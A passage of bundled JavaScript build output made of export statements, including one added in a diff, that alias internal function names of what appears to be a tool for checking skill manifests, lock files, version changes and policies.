createSkillLookup as on, severityRank as oo, isRequired$1 as or, loadAnalysed as ot, draftOf as p, catalogueSection as pa, pathWithin$1 as pi, withoutReferences as pn, aboutPower as po, installLocation as pr, leavesBeyond as pt, shippingUnits as q, smallestCoveringVersion as qa, resolvePointer as qi, compareDotted as qn, algorithmNamed as qr, dedent as qt, openRun as r, findingJson as ra, compareEntries$1 as ri, fallbackLocation as rn, quote as ro, isFlagChange as rr, effectivePolicies as rt, ruleIds as s, maxPageBytes as sa, levels$1 as si, lockedTargets as sn, LineMap as so, isStated as sr, relatePaths as st, faultOf as t, unreadSubmodules as ta, unlimitedPolicy as ti, editsOverlap as tn, joinFirst as to, isAboutKeyword as tr, relate as tt, withReadProgress as u, matrixSection as ua, readOutputSettings as ui, lengthOf as un, withPath as uo, namesTools as ur, readSkill as ut, readBlobs as v, code as va, builtInPlaceholders as vi, kindOf$1 as vn, gateOptions as vo, describeNestedDefault as vr, areSameSubmodules as vt, diskTree as w, text$2 as wa, parseSkillMd as wi, everything as wn, globalOptions as wo, formatOrNone as wr, gradeOf as wt, findRepository as x, element as xa, replaceVariables as xi, literals as xn, policyKeyNames as xo, entrypointName as xr, readAll as xt, commitOf as y, formatCount as ya, placeholdersIn as yi, kinds$2 as yn, failLevels as yo, describeSkill as yr, blobId as yt, requireSkills as z, tableCell as za, parseJson as zi, isDefinedEffect as zn, join$1 as zo, facetValue as zr, repositorySource as zt };
+export { restrictToPaths as $, clip as $a, filesDiffer as $i, hasApiVersion as $n, mapKeys as $r, migrationObstacle as $t, errorLine as A, formatEntries as Aa, dividePlainLock as Ai, divides as An, statNamed as Ao, pathTransition as Ar, toFindings as At, requireSkills as B, tableCell as Ba, parseJson as Bi, isDefinedEffect as Bn, isInside$1 as Bo, isSet as Br, repositorySource as Bt, remoteUrl as C, table$3 as Ca, findCarrier as Ci, singleCharacter as Cn, policyKeyNames as Co, formatList as Cr, originInFrontmatter as Ct, lstatSafely as D, changeLines as Da, plainLine$1 as Di, union as Dn, ruleLevelValue as Do, keywordTransition as Dr, powerSeverity as Dt, diskPath as E, versionChange as Ea, isSecretName as Ei, hasCodePoint as En, globalOptions as Eo, itemName as Er, matches as Et, killGroup as F, sampleFolderOf as Fa, duplicateKey$2 as Fi, moduleText as Fn, neutralizeCommands as Fo, formatTransition as Fr, isGuarded as Ft, check$1 as G, versionShortfall as Ga, get as Gi, twoBlocks as Gn, selfAndAncestors as Go, verifyEntry as Gr, powerRules as Gt, protosByName as H, catalogueInNaturalOrder as Ha, asWritten as Hi, blockOf as Hn, nameOf$3 as Ho, changeRule as Hr, sourceOf as Ht, trackChild as I, testFolderOf as Ia, leaksHome as Ii, planModuleText as In, decodePath as Io, differencesOf as Ir, analyse as It, shippingUnits as J, smallestCoveringVersion as Ja, resolvePointer as Ji, compareDotted as Jn, tool as Jo, selectFiles as Jr, dedent as Jt, summarize as K, declaredBump as Ka, items as Ki, twoBodies as Kn, UsageError as Ko, modeVariant as Kr, treeRules as Kt, loadTipConfig as L, codeSpan as La, sanitizePaths as Li, codeIndex as Ln, encodePath as Lo, listDifference as Lr, joinKnown as Lt, runGit as M, textColumns as Ma, parseLock as Mi, negation as Mn, escapeInvisible as Mo, rejectedWitness as Mr, messageValues as Mt, splitNulTerminated as N, painter as Na, foreignHeader as Ni, createBudget as Nn, jsonLine as No, transitionSuffix as Nr, findingSettings as Nt, readFile as O, findingBlocks as Oa, canonical as Oi, word as On, didYouMean as Oo, newName as Or, keyLocation as Ot, killChildren as P, defaultRenderOptions as Pa, protoLock as Pi, spend as Pn, jsonText$1 as Po, valueTransition as Pr, levelOf as Pt, withCommonIgnores as Q, isChanged as Qa, contentHash as Qi, formatKey$1 as Qn, defaults$1 as Qr, dialects as Qt, readConfig as R, nameText as Ra, parseYaml as Ri, describeEffect as Rn, folderOf as Ro, isObject as Rr, nothingKnown as Rt, readGitSettings as S, element as Sa, variablesIn as Si, literals as Sn, isLowerLevel as So, fileNames as Sr, readAll as St, folderTree as T, text$2 as Ta, unquotedColonIn as Ti, everything as Tn, nearPath$1 as To, formatText as Tr, gradeOf as Tt, skillsOfProto as U, isStalePin as Ua, fields$1 as Ui, operationOf as Un, relativePath$2 as Uo, isOffByDefault as Ur, byId as Ut, compareEntries as V, shellPath as Va, require_packages as Vi, parseRange as Vn, join$1 as Vo, uncoveredFiles as Vr, ruleDraft as Vt, withProto as W, count$1 as Wa, formatPointer as Wi, routerOf as Wn, resolve$1 as Wo, describeUnhashed as Wr, getProblemRule as Wt, pathInHead as X, compareNatural as Xa, text$1 as Xi, baseOf$1 as Xn, hashVariants as Xr, twoManifests as Xt, pairUnits as Y, require_compare as Ya, source as Yi, adr002 as Yn, createIgnoreTest as Yr, twoFrontmatters as Yt, versionTuple as Z, sortNaturally as Za, toJson as Zi, formatBump as Zn, previousSkillsByRoot as Zr, marketplaceSkillUnlisted as Zt, listedTree as _, placeLink as _a, matcher as _i, isSelfContained as _n, unitKey as _o, describeItem as _r, readTexts as _t, open as a, json as aa, isPlainCommand as ai, keywordLocation as an, truncate as ao, isOptional as ar, doubtsOf as at, commitsOf$1 as b, formatCount as ba, renamePlaceholders as bi, kinds$2 as bn, gateOptions as bo, describeValueChange as br, blobId as bt, treePaths as c, maxPageBytes as ca, isDay as ci, lockedTargets as cn, LineMap as co, isStatedOnBothSides as cr, relatePaths as ct, openSides as d, matrixSection as da, renderOptions as di, lengthOf as dn, withPath as do, semanticGrades as dr, readSkill as dt, isManifestName as ea, openGate as ei, migratedBlock as en, code$1 as eo, hasDefault as er, catalogueOf as et, defaultBranches as f, findingList as fa, writeOutputs as fi, membersOf as fn, linksFrom as fo, installFolders as fr, parseSkillToml as ft, gitTree as g, entryOf$3 as ga, filesByRoot as gi, isAnnotation as gn, pinLevels as go, changedEntries as gr, maxTextBytes as gt, tempNameOf as h, catalogueVerdict as ha, discover as hi, groupOf as hn, isWidening as ho, acceptedWitness as hr, digestFiles as ht, runCheck as i, findingJson as ia, coversCommand as ii, fallbackLocation as in, quote as io, isHarmless as ir, effectivePolicies as it, readGit as j, wrap as ja, lockFormatOf as ji, conjunction as jn, withUsageErrors as jo, pluralize as jr, redactCredentials as jt, LineEndings as k, formatColumns as ka, formatForFile as ki, commonMultiple as kn, readNamed as ko, operationName as kr, settingLocation as kt, withProgress as l, rulesSection as la, repositoryOptions as li, lockPathOf as ln, compareText as lo, leavesLegacyManifest as lr, load as lt, removeStaleTempFiles as m, catalogueSection as ma, relativePathsFrom as mi, withoutReferences as mn, aboutPower as mo, lockHome as mr, leavesBeyond as mt, main as n, unreadSubmodules as na, compareTools as ni, editsOverlap as nn, joinFirst as no, isBundled as nr, relate as nt, pathInDirectory as o, powerChangeJson as oa, prefixesOf as oi, nameLocation as on, isAtLeast as oo, isRequired$1 as or, powerTexts as ot, isRunning as p, inline$1 as pa, pathWithin$1 as pi, readSchema as pn, groupBy as po, installLocation as pr, parsedOnAccess as pt, bumpOf as q, isVersion$1 as qa, parsePointer as qi, twoOperations as qn, releaseTag as qo, algorithmNamed as qr, maxBump as qt, openRun as r, versionLocation as ra, compareEntries$1 as ri, markCopies as rn, joinWithOr as ro, isFlagChange as rr, parseVersionTag as rt, ruleIds as s, powerJson as sa, levels$1 as si, createSkillLookup as sn, severityRank as so, isStated as sr, loadAnalysed as st, faultOf as t, manifestOf as ta, unlimitedPolicy as ti, applyEdits as tn, formatNames as to, isAboutKeyword as tr, statedContract as tt, withReadProgress as u, pageText as ua, readOutputSettings as ui, evaluateSchema as un, inBaseOnly as uo, namesTools as ur, readManifests as ut, readBlobs as v, searchBox as va, builtInPlaceholders as vi, bottom as vn, unitKinds as vo, describeNestedDefault as vr, readLinkTargets as vt, diskTree as w, firstWithin as wa, parseSkillMd as wi, complement as wn, scopes as wo, formatOrNone as wr, updateClause as wt, findRepository as x, grouped$1 as xa, replaceVariables as xi, top as xn, failLevels as xo, entrypointName as xr, memoryTree as xt, commitOf as y, code as ya, placeholdersIn as yi, kindOf$1 as yn, memoize as yo, describeSkill as yr, areSameSubmodules as yt, ignoredSentences as z, prose$1 as za, isDigestIndex as zi, hasLimits as zn, isAtOrInside as zo, facetValue as zr, problemDraft as zt };
